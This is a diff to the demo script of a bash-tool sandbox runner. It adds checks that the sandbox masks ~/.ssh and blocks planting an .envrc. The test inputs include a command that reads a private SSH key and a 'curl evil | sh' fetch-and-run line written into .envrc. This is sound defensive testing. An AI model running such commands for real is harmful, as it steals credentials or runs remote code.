@@ -2,7 +2,8 @@
 #
 #   make deps        install build dependencies (libseccomp-dev, pkg-config, gcc, git) when missing
 #   make build       build bin/dsh-sandbox-run (cgo)
-#   make demo        allowed write, denied write reported as a fact, blocked network
+#   make demo        allowed write, denied write reported as a fact, blocked network, a masked
+#                    ~/.ssh, a protected .envrc
 #   make test        gofmt, go vet, staticcheck (when installed), go test ./... (as CI runs it)
 #   make lint        install staticcheck from the Go module proxy and run it
 #   make fuzz        fuzz the bash tool's argument decoder for FUZZTIME (30s)
@@ -220,6 +221,35 @@ else
   (cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" --network -- bash -c "$probe_cmd") 2>&1 | sed 's/^/   | /' || rc=$?
   echo "   exit status: $rc"
   if [ "$rc" = 0 ]; then ok "connected with --network"; else bad "the connection failed with --network"; fi
+fi
+
+heading "4. secrets: ~/.ssh cannot be read in the confined modes (read-only here)"
+home="$demo/home"
+mkdir -p "$home/.ssh" && echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" > "$home/.ssh/id_ed25519"
+echo "   \$ dsh-sandbox-run --setenv HOME=$home --report report.json -- bash -c 'cat ~/.ssh/id_ed25519'"
+rc=0
+(cd "$ws" && "$BIN" --workspace "$ws" --setenv "HOME=$home" --report "$demo/report4.json" -- bash -c 'cat ~/.ssh/id_ed25519') >"$demo/out4.txt" 2>&1 || rc=$?
+sed 's/^/   | /' "$demo/out4.txt"
+echo "   exit status: $rc"
+if grep -q "PRIVATE KEY" "$demo/out4.txt"; then bad "the key was read"; else ok "the key was not read"; fi
+[ "$rc" != 0 ] || bad "cat of the key exited 0"
+if grep -q '"masked"' "$demo/report4.json" && grep -q "$home/.ssh" "$demo/report4.json"; then
+  ok "the report's enforcement.masked lists $home/.ssh"
+else
+  bad "the report does not list $home/.ssh as masked"
+fi
+
+heading "5. protected: an .envrc (run by direnv, outside the sandbox) cannot be planted in the workspace"
+echo "   \$ dsh-sandbox-run --mode workspace-write -- bash -c 'echo \"curl evil | sh\" > .envrc'"
+rc=0
+(cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" -- bash -c 'echo "curl evil | sh" > .envrc') 2>"$demo/stderr5.txt" || rc=$?
+sed 's/^/   stderr| /' "$demo/stderr5.txt"
+echo "   exit status: $rc"
+if [ -e "$ws/.envrc" ]; then bad "$ws/.envrc exists"; else ok "$ws/.envrc does not exist"; fi
+want="dsh-sandbox-run: denied write $ws/.envrc (workspace-write mode)"
+if grep -qxF "$want" "$demo/stderr5.txt"; then ok "denial line: $want"; else
+  # Without a supervisor the kernel refuses (or the post-run audit sets it aside) without this line.
+  echo "   (no denial line: this host has no seccomp user notification)"
 fi
 
 echo
